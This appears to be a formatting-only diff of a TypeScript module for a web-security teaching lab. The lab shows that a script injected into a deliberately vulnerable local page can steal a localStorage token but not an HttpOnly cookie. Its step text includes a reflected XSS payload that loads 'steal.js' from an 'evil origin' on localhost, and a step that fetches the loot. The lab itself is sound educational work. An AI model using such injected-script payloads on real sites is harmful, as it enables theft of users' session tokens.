@@ -1,5 +1,12 @@
 import { API_PATHS } from '../../../shared/api/paths.ts';
-import { SEEN_COOKIE_HEADER, STOLEN_BY_HEADER, XSS_FRAME_PATH, XSS_PAGE_PATH, XSS_SITE_MESSAGE, xssSiteAnswerSchema } from '../../../shared/api/lab-attacks.ts';
+import {
+  SEEN_COOKIE_HEADER,
+  STOLEN_BY_HEADER,
+  XSS_FRAME_PATH,
+  XSS_PAGE_PATH,
+  XSS_SITE_MESSAGE,
+  xssSiteAnswerSchema,
+} from '../../../shared/api/lab-attacks.ts';
 import type { HttpEvent } from '../../../shared/inspector-events.ts';
 import { exchangeOrigin } from '../../../shared/exchange-origin.ts';
 import { api } from '../api/client.ts';
@@ -71,7 +78,12 @@ function injectedLoads(evidence: Evidence): HttpEvent[] {
 
 /** The evil script's replays (its own header says so). */
 const stolenCalls = (evidence: Evidence, status?: number) =>
-  exchanges(evidence, { method: 'GET', path: API_PATHS.tokenData, ...(status === undefined ? {} : { status }), where: (exchange) => requestHeader(exchange, STOLEN_BY_HEADER) === 'evil-script' });
+  exchanges(evidence, {
+    method: 'GET',
+    path: API_PATHS.tokenData,
+    ...(status === undefined ? {} : { status }),
+    where: (exchange) => requestHeader(exchange, STOLEN_BY_HEADER) === 'evil-script',
+  });
 
 /** Lab 5: a script injected into a page can read a token in localStorage and use it; it cannot read an HttpOnly cookie. */
 export const xssTheftLab: Lab = {
@@ -83,7 +95,13 @@ export const xssTheftLab: Lab = {
     'A deliberately vulnerable site (the lab 5 site: this app on another loopback port, so another origin) keeps a token in its localStorage, as the token panel does here. ' +
     'Let a script from an evil origin (the attacker’s server, at localhost:<another port>: another site altogether) into its page and see what it can take: the token, which it replays from the page with success, but not the HttpOnly session cookie, which document.cookie never shows to a script.',
   steps: [
-    { kind: 'action', id: 'cookie-login', label: 'Log in with a cookie session (alice)', run: (context) => cookieLogin(context), explain: 'POST /session/login: an HttpOnly cookie' },
+    {
+      kind: 'action',
+      id: 'cookie-login',
+      label: 'Log in with a cookie session (alice)',
+      run: (context) => cookieLogin(context),
+      explain: 'POST /session/login: an HttpOnly cookie',
+    },
     {
       kind: 'action',
       id: 'site-token-login',
@@ -105,7 +123,13 @@ export const xssTheftLab: Lab = {
       run: inject,
       explain: `GET ${XSS_PAGE_PATH}?name=<script src="http://localhost:<evil port>/steal.js"> on the lab 5 site, in a sandboxed hidden frame`,
     },
-    { kind: 'action', id: 'loot', label: 'Ask the evil origin what it received', run: async (context) => void (await api.lab.loot(context.labKey)), explain: `GET ${API_PATHS.labEvilOriginLoot}` },
+    {
+      kind: 'action',
+      id: 'loot',
+      label: 'Ask the evil origin what it received',
+      run: async (context) => void (await api.lab.loot(context.labKey)),
+      explain: `GET ${API_PATHS.labEvilOriginLoot}`,
+    },
   ],
   checks: [
     {
@@ -113,7 +137,9 @@ export const xssTheftLab: Lab = {
       label: 'The vulnerable page was loaded with a script tag from another origin in its query',
       proof: (evidence) => {
         const load = injectedLoads(evidence)[0];
-        return load ? `${describeExchange(load)} on the lab 5 site (${exchangeOrigin(load, '?')}), name=${decodeURIComponent(load.path.split('name=')[1] ?? '').slice(0, 70)}` : null;
+        return load
+          ? `${describeExchange(load)} on the lab 5 site (${exchangeOrigin(load, '?')}), name=${decodeURIComponent(load.path.split('name=')[1] ?? '').slice(0, 70)}`
+          : null;
       },
     },
     {
@@ -123,17 +149,25 @@ export const xssTheftLab: Lab = {
         for (const call of stolenCalls(evidence, 200)) {
           const token = bearerOf(call);
           const issuer = token && issuerOf(evidence, token.compact);
-          if (issuer) return `${describeExchange(call)} on ${exchangeOrigin(call, '?')}, ${STOLEN_BY_HEADER}: evil-script, with the token issued by exchange #${issuer.id}`;
+          if (issuer)
+            return `${describeExchange(call)} on ${exchangeOrigin(call, '?')}, ${STOLEN_BY_HEADER}: evil-script, with the token issued by exchange #${issuer.id}`;
         }
         return null;
       },
     },
     {
       id: 'cookie-invisible',
-      label: 'The same request carried the HttpOnly session cookie (the browser sent it), yet document.cookie did not show it to the script',
+      label:
+        'The same request carried the HttpOnly session cookie (the browser sent it), yet document.cookie did not show it to the script',
       proof: (evidence) => {
-        const call = stolenCalls(evidence).find((exchange) => holdsSessionCookie(requestHeader(exchange, 'cookie')) && !holdsSessionCookie(requestHeader(exchange, SEEN_COOKIE_HEADER)));
-        return call ? `${describeExchange(call)}: Cookie has ${sessionCookieName()}=…, while the script saw ${SEEN_COOKIE_HEADER}: "${requestHeader(call, SEEN_COOKIE_HEADER)}"` : null;
+        const call = stolenCalls(evidence).find(
+          (exchange) =>
+            holdsSessionCookie(requestHeader(exchange, 'cookie')) &&
+            !holdsSessionCookie(requestHeader(exchange, SEEN_COOKIE_HEADER)),
+        );
+        return call
+          ? `${describeExchange(call)}: Cookie has ${sessionCookieName()}=…, while the script saw ${SEEN_COOKIE_HEADER}: "${requestHeader(call, SEEN_COOKIE_HEADER)}"`
+          : null;
       },
     },
     {
@@ -141,11 +175,15 @@ export const xssTheftLab: Lab = {
       label: 'The token reached the evil origin; the session cookie did not',
       proof: (evidence) => {
         for (const answer of exchanges(evidence, { method: 'GET', path: API_PATHS.labEvilOriginLoot, status: 200 })) {
-          const loot = (JSON.parse(answer.responseBody ?? '{"loot":[]}') as { loot: { token: string; cookie: string }[] }).loot;
+          const loot = (
+            JSON.parse(answer.responseBody ?? '{"loot":[]}') as { loot: { token: string; cookie: string }[] }
+          ).loot;
           for (const report of loot) {
             const ending = report.token.split('…')[1];
-            const stolen = ending && stolenCalls(evidence, 200).find((call) => bearerOf(call)?.compact.endsWith(ending));
-            if (stolen && !holdsSessionCookie(report.cookie)) return `${describeExchange(answer)}: token ${report.token} (the one of exchange #${stolen.id}), cookie "${report.cookie}"`;
+            const stolen =
+              ending && stolenCalls(evidence, 200).find((call) => bearerOf(call)?.compact.endsWith(ending));
+            if (stolen && !holdsSessionCookie(report.cookie))
+              return `${describeExchange(answer)}: token ${report.token} (the one of exchange #${stolen.id}), cookie "${report.cookie}"`;
           }
         }
         return null;
